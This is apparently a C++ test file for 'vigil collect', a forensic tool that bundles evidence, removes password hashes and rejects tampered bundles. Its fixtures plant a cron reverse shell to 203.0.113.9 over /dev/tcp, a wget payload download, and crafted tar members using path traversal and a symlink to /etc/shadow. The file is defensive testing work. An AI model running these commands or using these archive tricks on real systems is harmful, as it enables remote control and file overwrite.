// vigil collect (issue 16): the incident bundle of an image and of this host. Unpacked with tar
// as an analyst would, `sha256sum -c MANIFEST.sha256` verifies every member; password hashes are
// gone unless --with-secrets; the bundle's own SHA-256 sits beside it and, with a key, its
// signature; the processes a finding names come with their /proc files and program; a bundle
// is never written inside the inspected root.
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <set>
#include <thread>

#include <gtest/gtest.h>

#include "e2e/fixture_root.hpp"
#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

// Unpacks the bundle into `into` and runs sha256sum -c there; the exit codes of both.
std::pair<int, int> unpack_and_verify(const std::string& bundle, const std::string& into) {
  fs::create_directories(into);
  auto tar = run_vigil_as({"/usr/bin/tar", "--zstd", "-xf", bundle, "-C", into});
  EXPECT_EQ(tar.exit_code, 0) << tar.err;
  auto sum = run_vigil_as({"/bin/sh", "-c", "cd \"$1\" && sha256sum --quiet -c MANIFEST.sha256", "sh", into});
  EXPECT_EQ(sum.exit_code, 0) << sum.out << sum.err;
  return {tar.exit_code, sum.exit_code};
}

void evidence_root(const TempDir& d) {
  base_root(d);
  d.write("etc/shadow", "root:$y$j9T$salt$hashhashhash:19000::::::\nalice:!$6$s$h:19000::::::\nwww-data:*:19000::::::\n");
  d.write("etc/cron.d/backup", "*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n");
  d.write("root/.bash_history", "wget http://203.0.113.9/x -O /tmp/.x\nchmod +x /tmp/.x\n");
  age_files(d);
}

}  // namespace

TEST(Collect, AnImagesBundleVerifiesAndKeepsNoPasswordHashes) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it): tar cannot unpack";
  TempDir d("vigil-collect-img"), out("vigil-collect-out");
  evidence_root(d);
  std::string bundle = out / "case.tar.zst";
  auto r = run_vigil({"collect", bundle, "--root", d.path(), "--key", out / "key.pem"});
  EXPECT_EQ(r.exit_code, 2) << "a missing key is an error before anything is written";
  EXPECT_FALSE(fs::exists(bundle));
  r = run_vigil({"collect", bundle, "--root", d.path()});
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  unpack_and_verify(bundle, out / "x");
  auto shadow = slurp(out / "x/files/etc/shadow");
  EXPECT_EQ(shadow.find("$y$"), std::string::npos) << shadow;
  EXPECT_NE(shadow.find("root:<removed>:19000"), std::string::npos) << shadow;
  EXPECT_NE(shadow.find("alice:!<removed>:"), std::string::npos) << "the lock mark stays";
  EXPECT_NE(shadow.find("www-data:*:"), std::string::npos);
  EXPECT_EQ(slurp(out / "x/files/etc/cron.d/backup"), slurp(d / "etc/cron.d/backup"));
  EXPECT_TRUE(fs::exists(out / "x/files/root/.bash_history"));
  auto doc = nlohmann::json::parse(slurp(out / "x/triage.json"), nullptr, false);
  ASSERT_FALSE(doc.is_discarded());
  EXPECT_FALSE(doc["findings"].empty());
  EXPECT_NE(slurp(out / "x/triage.html").find("<!DOCTYPE html>"), std::string::npos);
  auto collection = slurp(out / "x/COLLECTION.txt");
  EXPECT_NE(collection.find("command: "), std::string::npos);
  EXPECT_NE(collection.find("password hashes: removed from 1 file(s)"), std::string::npos) << collection;
  auto sum = run_vigil_as({"/usr/bin/sha256sum", bundle});
  EXPECT_EQ(slurp(bundle + ".sha256").substr(0, 64), sum.out.substr(0, 64));
  // --with-secrets keeps them.
  r = run_vigil({"collect", out / "secrets.tar.zst", "--root", d.path(), "--with-secrets"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  unpack_and_verify(out / "secrets.tar.zst", out / "s");
  EXPECT_NE(slurp(out / "s/files/etc/shadow").find("$y$j9T$salt$hashhashhash"), std::string::npos);
  // Never inside the inspected root.
  r = run_vigil({"collect", d / "tmp/case.tar.zst", "--root", d.path()});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_FALSE(fs::exists(d / "tmp/case.tar.zst"));
}

TEST(Collect, ALiveBundleHoldsTheFlaggedProcessAndIsSigned) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it): tar cannot unpack";
  TempDir d("vigil-collect-live"), out("vigil-collect-out");
  auto hidden = d / ".x/sleepy";
  fs::create_directories(fs::path(hidden).parent_path());
  fs::copy_file("/usr/bin/sleep", hidden);
  ::chmod(hidden.c_str(), 0755);
  Planted p(hidden, {"sleepy", "30"});
  ASSERT_GT(p.pid(), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  auto key = run_vigil_as({"/usr/bin/openssl", "genpkey", "-algorithm", "ed25519", "-out", out / "key.pem"});
  ASSERT_EQ(key.exit_code, 0) << key.err;
  std::string bundle = out / "live.tar.zst";
  auto r = run_vigil({"collect", bundle, "--quick", "--key", out / "key.pem"});
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  unpack_and_verify(bundle, out / "x");
  std::string proc = out / ("x/proc/" + std::to_string(p.pid()));
  ASSERT_TRUE(fs::exists(proc + "/cmdline")) << slurp(out / "x/COLLECTION.txt") << r.out;
  EXPECT_NE(slurp(proc + "/cmdline").find("sleepy"), std::string::npos);
  EXPECT_TRUE(fs::exists(proc + "/maps"));
  EXPECT_EQ(slurp(proc + "/exe"), slurp("/usr/bin/sleep")) << "the program as it runs";
  EXPECT_EQ(slurp(bundle + ".sig").rfind("vigil-bundle-signature ed25519 ", 0), 0u);
}

namespace {

// TMPDIR for the vigil runs of one test: where a bundle is unpacked, watched for leftovers.
class TmpDirEnv {
 public:
  explicit TmpDirEnv(const std::string& dir) { ::setenv("TMPDIR", dir.c_str(), 1); }
  ~TmpDirEnv() { ::unsetenv("TMPDIR"); }
};

// A .tar.zst made by hand (python's tarfile, then zstd) with the given members.
std::string hand_made(const TempDir& d, const std::string& name, const std::string& python_members) {
  std::string tar = d / (name + ".tar");
  auto r = run_vigil_as({"/usr/bin/python3", "-c",
                         "import io, sys, tarfile\n"
                         "t = tarfile.open(sys.argv[1], 'w')\n"
                         "def add(n, data):\n"
                         "    i = tarfile.TarInfo(n); i.size = len(data); t.addfile(i, io.BytesIO(data))\n" +
                             python_members + "t.close()\n",
                         tar});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  auto z = run_vigil_as({"/usr/bin/zstd", "-q", "-f", tar, "-o", tar + ".zst"});
  EXPECT_EQ(z.exit_code, 0) << z.err;
  return tar + ".zst";
}

// An image with evidence and its bundle; TMPDIR points at a directory the test watches.
struct BundleCase {
  TempDir d{"vigil-collect-img"}, out{"vigil-collect-out"}, tmp{"vigil-collect-tmp"};
  TmpDirEnv env{tmp.path()};
  std::string bundle = out / "case.tar.zst";
  RunResult made;
  BundleCase() {
    evidence_root(d);
    made = run_vigil({"collect", bundle, "--root", d.path()});
  }
};

}  // namespace

TEST(Collect, ABundleTriagedOfflineGivesTheImagesFindings) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it)";
  BundleCase c;
  ASSERT_EQ(c.made.exit_code, 0) << c.made.err;
  auto& d = c.d;
  auto& tmp = c.tmp;
  const auto& bundle = c.bundle;
  auto image = run_vigil({"triage", "--root", d.path(), "--format", "jsonl", "--no-suppress"});
  auto offline = run_vigil({"triage", "--bundle", bundle, "--format", "jsonl", "--no-suppress"});
  ASSERT_TRUE(offline.exit_code == 0 || offline.exit_code == 1) << offline.err;
  auto from_image = parse_jsonl(image.out), from_bundle = parse_jsonl(offline.out);
  // Every finding of the image, by rule and what it is about, is in the bundle's triage.
  auto about = [](const nlohmann::json& f) {
    std::string what = f["rule"]["id"].get<std::string>();
    if (f.contains("file") && f["file"].contains("path") && f["rule"]["id"] != "collector.partial")
      what += " " + f["file"]["path"].get<std::string>();
    if (f.contains("user") && f["user"].contains("name")) what += " " + f["user"]["name"].dump();
    return what;
  };
  std::multiset<std::string> have;
  for (const auto& f : from_bundle) have.insert(about(f));
  for (const auto& f : from_image)
    EXPECT_TRUE(have.count(about(f))) << "missing from the bundle's triage: " << about(f) << "\n" << offline.out;
  std::size_t recorded = 0;
  for (const auto& f : from_bundle) recorded += f["vigil"].contains("bundle");
  EXPECT_LT(recorded, from_bundle.size()) << "most findings are derived again from the files";
  EXPECT_TRUE(fs::is_empty(tmp.path())) << "the unpacked bundle is removed";
}

TEST(Collect, ATamperedTruncatedOrHostileBundleIsRefused) {
  if (!fs::exists("/usr/bin/zstd")) GTEST_SKIP() << "zstd is not installed (make setup installs it)";
  BundleCase c;
  ASSERT_EQ(c.made.exit_code, 0) << c.made.err;
  auto& d = c.d;
  auto& out = c.out;
  auto& tmp = c.tmp;
  const auto& bundle = c.bundle;
  auto bytes = slurp(bundle);
  auto refused = [&](const std::string& file, const std::string& words) {
    auto r = run_vigil({"triage", "--bundle", file, "--format", "jsonl"});
    EXPECT_EQ(r.exit_code, 2) << file << "\n" << r.out;
    EXPECT_NE(r.err.find(words), std::string::npos) << file << ": " << r.err;
    EXPECT_TRUE(fs::is_empty(tmp.path())) << "nothing left behind for " << file;
  };
  // One byte changed: the hash beside it says so.
  auto changed = bytes;
  changed[changed.size() / 2] ^= 0x01;
  std::ofstream(out / "changed.tar.zst", std::ios::binary) << changed;
  fs::copy_file(bundle + ".sha256", out / "changed.tar.zst.sha256");
  refused(out / "changed.tar.zst", "tampered");
  // Without the hash beside it: the compression or the manifest says so.
  std::ofstream(out / "bare.tar.zst", std::ios::binary) << changed;
  refused(out / "bare.tar.zst", out / "bare.tar.zst");
  // A member whose bytes are not the manifest's.
  refused(hand_made(out, "edited",
                    "add('files/etc/passwd', b'root:x:0:0::/root:/bin/sh\\n')\n"
                    "add('MANIFEST.sha256', b'" + std::string(64, '0') + "  files/etc/passwd\\n')\n"),
          "tampered: member files/etc/passwd");
  // Cut short, not a tar, a path out of the directory, a link.
  std::ofstream(out / "cut.tar.zst", std::ios::binary) << bytes.substr(0, bytes.size() / 2);
  refused(out / "cut.tar.zst", "cut short");
  d.write("notes.txt", "not a bundle\n");
  refused(d / "notes.txt", "not a readable bundle");
  refused(hand_made(out, "escape", "add('../escaped', b'x')\n"), "a path vigil collect never writes");
  EXPECT_FALSE(fs::exists(fs::path(tmp.path()).parent_path() / "escaped"));
  refused(hand_made(out, "absolute", "add('/tmp/vigil-absolute', b'x')\n"), "a path vigil collect never writes");
  EXPECT_FALSE(fs::exists("/tmp/vigil-absolute"));
  refused(hand_made(out, "link",
                    "i = tarfile.TarInfo('files/etc/passwd'); i.type = tarfile.SYMTYPE; i.linkname = '/etc/shadow'\n"
                    "t.addfile(i)\n"),
          "a link or device");
}
